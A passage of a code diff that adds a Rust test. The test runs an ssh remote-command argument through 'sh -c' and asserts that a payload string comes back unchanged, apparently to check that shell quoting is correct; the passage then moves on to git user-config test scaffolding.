+            assert_eq!(args[3], "-T");
+            // sshd hands the remote command to the user's shell as one string
+            let output = Command::new("sh")
+                .args(["-c", args.last().unwrap()])
+                .output()
+                .unwrap();
+            assert!(output.status.success(), "{:?}", output);
+            assert_eq!(String::from_utf8(output.stdout).unwrap(), *payload);
+        }
+    }
+
     // ── git_user_config_envs tests ──────────────────────────────────────
 
     /// Create a temp directory with a git repo and local user config.